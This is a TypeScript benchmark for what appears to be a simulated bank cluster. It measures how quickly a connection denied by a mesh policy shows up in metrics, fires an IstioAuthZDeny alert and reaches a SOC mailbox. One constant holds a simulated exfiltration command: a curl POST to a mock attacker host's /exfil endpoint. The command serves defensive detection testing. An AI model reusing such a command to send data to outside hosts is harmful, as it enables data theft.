// From a denied connection to the SOC's mail, at the stack's default intervals (scrape 2 s, evaluation 2 s,
// the seed's Alertmanager group_wait 10 s). In one cluster with the mesh policy on, the converter's attempt on
// the attacker is timed to three points (from the start of `exec … curl`, a CLI process of its own): the attempt
// visible in the store (the scrape: the baseline of this run),
// IstioAuthZDeny firing (scrape + evaluation), and the `[FIRING]` mail in the inbox (+ the Alertmanager's
// group wait and SMTP). The measured attempt is the first of a new epoch (after `reset` and its first scrape of
// the node): the scraper starts a counter that appears between two scrapes at zero, so the first attempt alerts,
// as in the demo's Act 3. Also the store's memory per series.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEFAULT_MANIFESTS } from '../src/control-plane/cluster.ts';
import { newMatcher } from '../src/evidence/tsdb/index.ts';
import { startTestCluster, type TestCluster } from '../testing/cluster.ts';
import { report, summarise } from './stats.ts';

// One measured attempt per cluster: rate()'s 10-minute window would carry a first round's increase into the
// next, so a second round's alert could fire before its own attempt was even scraped.
const ROUNDS = 1;
const CONVERTER = ['trustusbank-bank-vendors', 'currency-converter'] as const;
const EXFIL = ['-X', 'POST', '-d', '{}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil'];
const TIMEOUT_MS = 120_000;

async function until(what: string, check: () => Promise<boolean> | boolean): Promise<number> {
  const deadline = Date.now() + TIMEOUT_MS;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return performance.now();
}

export async function run(): Promise<void> {
  let t: TestCluster | undefined;
  try {
    t = await startTestCluster();
    const cluster = t.cluster;
    const policy = join(DEFAULT_MANIFESTS, 'policies', 'mesh', 'deny-bank-to-attacker.yaml');
    await cluster.engine.apply([{ file: policy, text: readFileSync(policy, 'utf8') }]);
    const failures = () => {
      const result = cluster.evidence.monitor.store.select([newMatcher('=', '__name__', 'istio_tcp_connections_failed_total'), newMatcher('=', 'response_flags', 'CONNECT')], Date.now() - 60_000, Date.now());
      return result.reduce((sum, s) => sum + (s.v.length > 0 ? s.v[s.v.length - 1]! : 0), 0);
    };
    const attempt = async (): Promise<void> => {
      const result = await t!.curlFrom(...CONVERTER, EXFIL);
      if (result.code !== 56) throw new Error(`the attempt was not refused (curl exit ${result.code})`);
    };

    const scraped: number[] = [];
    const fired: number[] = [];
    const mailed: number[] = [];
    for (let round = 0; round < ROUNDS; round++) {
      await cluster.evidence.reset();
      await until('the new epoch\'s first scrape of the node', () => cluster.evidence.monitor.scraper.targets().some((target) => target.target.labels.job === 'trustusbank-node' && target.health === 'up'));
      const seen = failures();
      const started = performance.now();
      await attempt();
      scraped.push((await until('the attempt in the store', () => failures() > seen)) - started);
      fired.push((await until('IstioAuthZDeny firing', () => cluster.evidence.monitor.alerts().some((a) => a.rule === 'IstioAuthZDeny' && a.state === 'firing'))) - started);
      mailed.push((await until('the mail', () => cluster.evidence.inbox.messages().some((m) => m.decoded.subject.includes('IstioAuthZDeny')))) - started);
    }
    report(
      `denied connection to SOC mail, default intervals (scrape ${cluster.evidence.monitor.scraper.intervalMs / 1000} s, evaluation ${cluster.evidence.monitor.evaluationIntervalMs / 1000} s, group_wait 10 s; goal ≤ 10 s)`,
      summarise('attempt visible in the store (scrape)', scraped),
      [summarise('IstioAuthZDeny firing (+ evaluation)', fired), summarise('[FIRING] mail in the inbox (+ group wait)', mailed)],
    );
    const stats = cluster.evidence.monitor.store.stats();
    console.log(`  store: ${stats.series} series, ${stats.samples} samples, ${(stats.sampleBytes / 1024).toFixed(0)} KiB of sample arrays: ${(stats.sampleBytes / Math.max(1, stats.series)).toFixed(0)} bytes per series, ${(stats.sampleBytes / Math.max(1, stats.samples)).toFixed(1)} per sample`);
  } finally {
    await t?.close();
  }
}
